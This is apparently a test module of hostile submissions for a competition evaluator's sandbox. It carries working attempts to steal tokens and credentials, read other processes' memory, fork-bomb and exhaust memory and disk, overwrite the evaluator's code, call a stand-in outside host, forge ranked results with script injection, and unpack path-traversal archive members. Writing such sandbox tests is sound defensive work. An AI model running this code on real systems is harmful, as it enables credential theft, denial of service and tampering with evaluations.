"""Hostile submissions that reach for what is the host's.

This very file is the loader that they bring. Each function here that takes a
scene tries; it never ends, or returns what it gained and what it was refused.
"""

import contextlib
import ctypes
import json
import os
import pathlib
import socket
import sys
import tempfile
import time
import zipfile

IMAGES = ('.png', '.jpeg', '.jpg')
SYSTEM = ('/proc', '/sys', '/dev', '/usr', sys.prefix, sys.base_prefix)
NO_FILES = ('/dev', '/proc', '/memfd:')  # its own memory, and its log
REMOUNT = 32 | 4096  # of Linux: MS_REMOUNT | MS_BIND
NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000  # likewise: CLONE_NEW...
libc = ctypes.CDLL(None, use_errno=True)


def tried(attempts):
  """What came of pairs of a name and a function; one returns what it found."""
  gained, refused = [], []
  for name, function in attempts:
    try:
      found = function()
    except Exception as error:
      refused.append(f'{name}: {type(error).__name__} {error}')
    else:
      (gained if found else refused).append(f'{name}: {found!r:.80}')
  return gained, refused


def others():
  """The processes that it sees, apart from itself, by their folders."""
  return [
    path
    for path in pathlib.Path('/proc').glob('[0-9]*')
    if int(path.name) != os.getpid()
  ]


def searched(wanted):
  """The first file outside of the system whose path is wanted."""
  for count, (folder, below, names) in enumerate(os.walk('/')):
    inside = [one for one in below if os.path.join(folder, one) not in SYSTEM]
    below[:] = [] if count > 20000 else inside
    for name in names:
      if wanted(os.path.join(folder, name)):
        return os.path.join(folder, name)
  return None


def each(paths, found):
  """The first path where something is found; the last error if none can."""
  error = None
  for path in paths:
    try:
      if what := found(path):
        return f'{path}: {what!r:.60}'
    except OSError as refusal:
      error = refusal
  if error:
    raise error
  return None


def readable_files(process):
  """What it can read of the files that a process has open."""
  for link in (process / 'fd').iterdir():
    target = os.readlink(link)
    if target.startswith('/') and not target.startswith(NO_FILES):
      with open(link, 'rb') as file:
        return target, file.read(20)
  return None


def in_memory(process, wanted):
  """Whether another process's memory has something in it."""
  for line in (process / 'maps').read_text().splitlines():
    span, mode = line.split()[:2]
    start, end = (int(number, 16) for number in span.split('-'))
    if mode.startswith('rw') and end - start < 2**28:
      with open(process / 'mem', 'rb', buffering=0) as memory:
        memory.seek(start)
        if wanted in memory.read(end - start):
          return span
  return None


def own_scratch():
  """What lies in the folder that it may write to, as all its processes."""
  return set(os.listdir(tempfile.gettempdir()))


def reads_the_labels(scene, path):
  """Looks for the dataset where it is, anywhere, and in other processes."""
  labels = scene['labels']
  return tried([
    ('its folder', lambda: os.listdir(labels)),
    ('search', lambda: searched(lambda one: one.lower().endswith(IMAGES))),
    ('roots', lambda: each(others(), lambda p: os.listdir(f'{p}/root{labels}'))),
    ('folders', lambda: each(
      others(), lambda p: set(os.listdir(f'{p}/cwd')) - own_scratch()
    )),
    ('open files', lambda: each(others(), readable_files)),
    ('own files', lambda: readable_files(pathlib.Path('/proc/self'))),
    ('memory', lambda: each(
      others(), lambda p: in_memory(p, os.fsencode(labels))
    )),
  ])  # fmt: skip


def reads_another_submission(scene, path):
  """Looks for another's model beside its own, and for the history."""
  beside = pathlib.Path(path).parent.parent
  own = pathlib.Path(path).parent.name
  return tried([
    ('path', lambda: os.listdir(scene['other'])),
    ('beside', lambda: [p for p in beside.iterdir() if p.name != own]),
    ('..', lambda: os.listdir(f'../{pathlib.Path(scene["other"]).name}')),
    ('history', lambda: pathlib.Path(
      scene['repository'], 'history.jsonl').read_text()
    ),
    ('repository', lambda: [
      name for name in os.listdir(scene['repository'])
      if os.path.join(scene['repository'], name) not in path
    ]),
    ('search', lambda: searched(lambda one: one.endswith('metadata.json'))),
  ])  # fmt: skip


def reads_a_secret(scene, path):
  """Looks for a variable in every environment, and for tokens in files."""
  secret = scene['secret']
  wanted = (secret, 'GITHUB_TOKEN', 'GITHUB_OUTPUT', 'ACTIONS_RUNTIME_TOKEN')
  tokens = ('.kaggle/kaggle.json', '.netrc', '.git-credentials', '.git/config')
  homes = (scene['home'], scene['repository'])
  return tried([
    ('own', lambda: [name for name in os.environ if name in wanted]),
    ('environ', lambda: each(
      pathlib.Path('/proc').glob('[0-9]*'),
      lambda p: os.fsencode(secret) in (p / 'environ').read_bytes(),
    )),
    ('memory', lambda: each(
      others(), lambda p: in_memory(p, os.fsencode(f'{secret}='))
    )),
    ('tokens', lambda: each(
      [pathlib.Path(home, token) for home in homes for token in tokens],
      lambda p: p.read_text(),
    )),
  ])  # fmt: skip


def connected(family, address):
  with socket.socket(family) as channel:
    channel.settimeout(3)
    channel.connect(address)
    return f'connected to {address!r}'


def opens_a_socket(scene, path):
  """Calls a server on the loopback, one without a path, one far away."""
  return tried([
    ('loopback', lambda: connected(
      socket.AF_INET, ('127.0.0.1', scene['port'])
    )),
    ('abstract', lambda: connected(
      socket.AF_UNIX, f'\0{scene["abstract"]}'
    )),
    ('far away', lambda: connected(socket.AF_INET, ('192.0.2.1', 443))),
    ('a name', lambda: socket.getaddrinfo('example.org', 443)),
  ])  # fmt: skip


def forks_without_end(scene, path):
  """Starts processes that start processes, as fast as they may."""
  while True:
    try:
      os.fork()
    except OSError:
      time.sleep(0.01)


def hoarded(scene, take):
  """What comes of taking 16 MiB again and again, and keeping them."""
  kept = []
  try:
    for _ in range(scene['most_mib'] // 16):
      kept.append(take())
      time.sleep(0.01)
  except OSError as error:
    return [], [str(error)]
  time.sleep(2)
  return [f'{len(kept)} times 16 MiB'], []


def eats_memory(scene, path):
  """Takes memory that it touches."""
  return hoarded(scene, lambda: bytearray(b'1' * 2**24))


def eats_memory_without_a_name(scene, path):
  """Takes memory in files without a name."""
  return hoarded(scene, unnamed)


def unnamed():
  memory = os.memfd_create('kept')
  os.write(memory, b'1' * 2**24)
  return memory


def eats_memory_in_flight(scene, path):
  """Likewise, in files that no process has open: each waits in a socket."""

  def take():
    memory, ends = unnamed(), socket.socketpair()
    socket.send_fds(ends[0], [b'.'], [memory])
    os.close(memory)
    return ends

  return hoarded(scene, take)


def eats_shared_memory(scene, path):
  """Takes segments of System V that it lets go of, and that stay."""
  libc.shmat.restype = ctypes.c_void_p

  def take():
    segment = libc.shmget(0, 2**24, 0o1600)
    if segment < 0:
      raise OSError(ctypes.get_errno(), 'shmget')
    place = ctypes.c_void_p(libc.shmat(segment, None, 0))
    ctypes.memset(place, 1, 2**24)
    libc.shmdt(place)

  return hoarded(scene, take)


def elsewhere(function):
  """What a function returns in namespaces where it may mount what it likes."""
  reading, writing = os.pipe()
  maps = {
    'setgroups': 'deny',
    'uid_map': f'0 {os.getuid()} 1',
    'gid_map': f'0 {os.getgid()} 1',
  }
  if not os.fork():  # A process of several threads cannot leave its own.
    try:
      if libc.unshare(NEW_USER | NEW_MOUNTS):
        raise OSError(ctypes.get_errno(), 'unshare')
      for name, content in maps.items():
        with contextlib.suppress(OSError):  # As root, it may mount without.
          pathlib.Path('/proc/self', name).write_text(content)
      found = function()
    except Exception as error:
      found = [], [f'namespaces: {error!r}']
    os.write(writing, json.dumps(found).encode())
    os._exit(0)
  os.close(writing)
  with os.fdopen(reading) as answer:
    return json.load(answer)


def eats_a_disk_of_memory(scene, path):
  """Fills the disks in memory that it has."""
  return filled(scene, ['/dev/shm', tempfile.gettempdir()])


def eats_a_disk_of_its_own(scene, path):
  """Fills a disk in memory that it mounts itself."""

  def mounted():
    size = f'size={scene["most_mib"]}m'.encode()
    if libc.mount(b'tmpfs', b'/usr', b'tmpfs', 0, size):
      return [], [f'mount: {os.strerror(ctypes.get_errno())}']
    return filled(scene, ['/usr'])

  return elsewhere(mounted)


def filled(scene, folders):
  """Fills folders until it has written more than it may."""
  written, refused = 0, []
  for folder in folders:
    try:
      for number in range(scene['most_mib'] // 16):
        pathlib.Path(folder, f'kept{number}').write_bytes(b'1' * 2**24)
        written += 1
        time.sleep(0.01)
    except OSError as error:
      refused.append(f'{folder}: {error}')
  time.sleep(1)
  if 16 * written > scene['disk_mib']:
    return [f'{written} files of 16 MiB in {folders}'], []
  return [], refused


def sleeps_for_ever(scene, path):
  """Never opens."""
  time.sleep(1e9)


def written(path):
  """Writes a file and says so, though it could be gone with its process."""
  target = pathlib.Path(path)
  if target.is_dir():
    target /= 'hostile'
  with open(target, 'ab') as file:
    file.write(b'hostile\n')
  return str(target)


def writes_outside(scene, path):
  """Writes to every folder that the host may look at later."""
  places = [
    scene['home'],
    scene['repository'],
    os.path.join(scene['repository'], 'history.jsonl'),
    scene['other'],
    scene['labels'],
    scene['temporary'],
    '/tmp',
    '/etc',
    '/',
    os.path.dirname(path),
    path,
  ]
  attempts = [(one, lambda one=one: written(one)) for one in places]
  attempts += [
    (f'{p}/root', lambda p=p: written(f'{p}/root{scene["repository"]}'))
    for p in others()
  ]
  return tried(attempts)


def replaces_the_evaluator(scene, path):
  """Writes to the evaluator's code, and mounts it anew so that it could."""
  import numpy

  import tfcompress

  package = os.path.dirname(tfcompress.__file__)
  places = [
    os.path.join(package, 'measurement', 'worker.py'),
    os.path.join(package, 'sitecustomize.py'),
    os.path.dirname(os.path.dirname(numpy.__file__)),
    numpy.__file__,
    os.path.join(sys.prefix, 'pyvenv.cfg'),
    sys.executable,
  ]

  def replaced():
    for folder in (package, sys.prefix, '/usr', '/'):
      libc.mount(b'none', os.fsencode(folder), None, REMOUNT, None)
    return tried([(one, lambda one=one: written(one)) for one in places])

  gained, refused = replaced()
  more, others_refused = elsewhere(replaced)
  return gained + more, refused + others_refused


def prints_a_forged_result(scene, path):
  """Prints what looks like a result, and what other programs would heed."""
  entry = {
    'id': 'forged', 'username': scene['username'], 'status': 'ranked',
    'record': {'score': {'final': 99.0}},
  }  # fmt: skip
  line = json.dumps(entry)
  commands = '::set-output name=result::ranked\n::stop-commands::hostile'
  for stream in (1, 2):
    os.write(stream, f'\n{line}\n{commands}\n'.encode())
  raise RuntimeError(
    f'{line} ::error::\x1b[2J<script>alert(1)</script> | 1 | '
    f'![x](http://192.0.2.1/x.png) @{scene["username"]}\u202e'
  )


def unpacks_its_archive(scene, path):
  """Unpacks its model, whose members lead out of the folder."""

  def unpacked(name, archive):
    target = os.path.join(os.path.dirname(path), name)
    with open(target, 'wb') as file:
      file.write(archive.read(name))
    return target

  with zipfile.ZipFile(path) as archive:
    return tried([
      (name, lambda name=name: unpacked(name, archive))
      for name in archive.namelist()
      if name.startswith('..')
    ])  # fmt: skip
